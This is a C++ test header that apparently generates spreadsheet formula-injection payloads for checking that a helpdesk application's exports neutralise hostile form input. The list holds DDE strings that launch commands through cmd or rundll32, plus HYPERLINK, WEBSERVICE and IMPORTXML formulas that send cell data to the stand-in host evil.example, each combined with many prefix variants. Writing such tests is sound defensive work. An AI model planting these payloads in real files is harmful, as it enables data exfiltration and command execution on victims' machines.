// Texts that people with bad intentions type into forms, hoping that an export becomes a program.
#pragma once

#include <QStringList>

namespace fairdesk::test {

inline QStringList injectionPayloads()
{
    const QStringList bodies = {
        QStringLiteral("1+1"),
        QStringLiteral("cmd|'/C calc'!A0"),
        QStringLiteral("HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
        QStringLiteral("WEBSERVICE(\"http://evil.example/\"&A1)"),
        QStringLiteral("IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
        QStringLiteral("DDE(\"cmd\";\"/C calc\";\"!A0\")"),
        QStringLiteral("SUM(1+1)*cmd|' /C calc'!A0"),
        QStringLiteral("rundll32|'URL.dll,OpenURL calc.exe'!A"),
    };
    const QStringList starts = {
        QStringLiteral("="),       QStringLiteral("+"),       QStringLiteral("-"),       QStringLiteral("@"),
        QStringLiteral("＝"),      QStringLiteral("＋"),      QStringLiteral("－"),      QStringLiteral("＠"),
        QStringLiteral("\t="),     QStringLiteral("\r="),     QStringLiteral("\n="),     QStringLiteral(" ="),
        QStringLiteral("\u00A0="), QStringLiteral("\u3000="), QStringLiteral("\u200B="), QStringLiteral("\uFEFF="),
        QStringLiteral("\r\n@"),   QStringLiteral("=-+"),     QStringLiteral("@@"),
    };
    QStringList payloads = {
        QStringLiteral("=A1"),
        QStringLiteral("-1-1"),
        QStringLiteral("+1+1"),
        QStringLiteral("-"),
        QStringLiteral("="),
        QStringLiteral("@"),
        QStringLiteral("\t"),
        QStringLiteral("\r"),
        QStringLiteral("a;=1+1"),
        QStringLiteral("a\t=1+1"),
        QStringLiteral("a\",=1+1"),
        QStringLiteral("\"=1+1\""),
        QStringLiteral("\";=1+1;\""),
        QStringLiteral("a\n=1+1"),
        QStringLiteral("a|=1+1"),
        QStringLiteral("+86 138 0013 8000"),
        QStringLiteral("-12.5=cmd|' /C calc'!A0"),
        QStringLiteral("<a href=\"x\">y</a>"),
        QStringLiteral("_x003D_1+1"),
        QStringLiteral("'=1+1"),
        QStringLiteral("''-x"),
        QStringLiteral("sep=;"),
    };
    for (const QString &start : starts) {
        for (const QString &body : bodies)
            payloads.append(start + body);
    }
    return payloads;
}

} // namespace fairdesk::test
